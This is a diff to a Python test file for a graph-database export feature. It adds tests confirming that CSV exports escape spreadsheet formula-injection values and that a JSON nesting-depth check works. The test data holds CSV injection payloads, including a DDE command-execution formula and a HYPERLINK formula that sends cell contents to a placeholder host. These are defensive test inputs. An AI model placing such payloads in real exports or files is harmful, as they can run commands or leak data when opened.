@@ -3,8 +3,10 @@ overwrites a stored fact, can be traced to its Dataset, and an export imports ba
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import re
 import zipfile
 from pathlib import Path
 from typing import Any
@@ -21,6 +23,7 @@ from graph.imports import (
     ImportRejected,
     ImportSource,
     export_graph,
+    json_too_deep,
     render_export,
     run_import,
     split_csv_list,
@@ -631,3 +634,118 @@ def test_dataset_options_are_an_object_and_the_readme_says_what_was_exported(
     assert one.startswith(f"crimegraph graph export of dataset {graded.dataset['id']}: 2 nodes")
     for readme in (whole, one):
         assert "None" not in readme and "content_hash" not in readme and "created: " in readme
+
+
+# --- CSV exports a spreadsheet may open (OWASP CSV injection) ---------------------------------
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?x="&A1, "click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''+two quotes",
+    "'plain quote",
+    "-",
+    "a-b=c",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+NUMERIC = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")
+
+
+def spreadsheet_cells(content: bytes) -> list[tuple[str, str, str]]:
+    """(file, column header, cell) of every CSV cell in an export zip."""
+    cells = []
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if not name.endswith(".csv"):
+                continue
+            header, *rows = csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
+            cells += [(name, column, column) for column in header]
+            cells += [
+                (name, col, cell) for row in rows for col, cell in zip(header, row, strict=True)
+            ]
+    return cells
+
+
+def formula_graph(store: Store, model: Model) -> list[str]:
+    """The seed graph, with formulas for names, aliases, a role and a negative quantity;
+    returns the names given."""
+    snapshot = export_graph(store)
+    people = [n for n in snapshot["nodes"] if "Person" in n["labels"]]
+    for person, formula in zip(people, FORMULAS, strict=False):
+        person["properties"]["name"] = formula
+    people[0]["properties"]["aliases"] = FORMULAS
+    seizure = next(n for n in snapshot["nodes"] if "Seizure" in n["labels"])
+    seizure["properties"]["quantity"] = -3
+    roled = next(r for r in snapshot["relationships"] if "role" in r["properties"])
+    roled["properties"]["role"] = FORMULAS[1]
+    content, _, _ = render_export(snapshot, "ftm", model)
+    store.run("clear_graph")
+    run_import(store, model, content, file_name="formulas.jsonl", imported_by="test")
+    return FORMULAS[: len(people)]
+
+
+def test_csv_export_cells_start_with_no_formula_trigger(
+    seeded_store: Store, model: Model, client: TestClient
+) -> None:
+    formula_graph(seeded_store, model)
+    response = client.get("/api/v1/export", params={"format": "csv"})
+    assert response.status_code == 200
+    cells = spreadsheet_cells(response.content)
+    assert any(cell.startswith("'=cmd|") for _, _, cell in cells)  # the formulas are there
+    unsafe = [
+        (name, column, cell)
+        for name, column, cell in cells
+        if cell.startswith(TRIGGERS)
+        # A typed numeric column keeps its negative numbers: a number is no formula.
+        and not (column.split(":")[-1] in ("int", "long", "double") and NUMERIC.match(cell))
+    ]
+    assert unsafe == []
+    assert ("nodes.csv", "quantity:int", "-3") in cells
+
+
+def test_csv_export_with_formulas_imports_back_unchanged(
+    seeded_store: Store, model: Model, client: TestClient
+) -> None:
+    names = formula_graph(seeded_store, model)
+    before = without_bookkeeping(dump(seeded_store))
+    exported = client.get("/api/v1/export", params={"format": "csv"})
+    seeded_store.run("clear_graph")
+
+    imported = client.post("/api/v1/imports?file_name=graph.csv.zip", content=exported.content)
+
+    assert imported.status_code == 201, imported.text
+    after = without_bookkeeping(dump(seeded_store))
+    assert after == before
+    assert [r for r in after if r["properties"].get("aliases") == FORMULAS]
+    assert {r["properties"].get("name") for r in after} >= set(names)
+
+
+def nesting(value: Any) -> int:
+    if isinstance(value, dict):
+        return 1 + max(map(nesting, value.values()), default=0)
+    if isinstance(value, list):
+        return 1 + max(map(nesting, value), default=0)
+    return 0
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"a": [1, {"b": "]]]}}}"}], "c": "[[[[{{{{"}',
+        '["\\\\", ["\\\\\\"[[[", [[]]]]',
+        '{"k\\"[": [[[["x\\\\"]]]]}',
+        "[[[[[[]]]]]]",
+        '[{}, {}, [], [[]], "[\\u005b"]',
+    ],
+)
+def test_the_depth_scan_counts_what_the_parser_would(text: str) -> None:
+    """Brackets inside strings, escaped quotes and escaped backslashes do not fool it."""
+    depth = nesting(json.loads(text))
+    assert json_too_deep(text.encode(), depth) is None
+    offset = json_too_deep(text.encode(), depth - 1)
+    assert offset is not None and text[offset] in "[{"
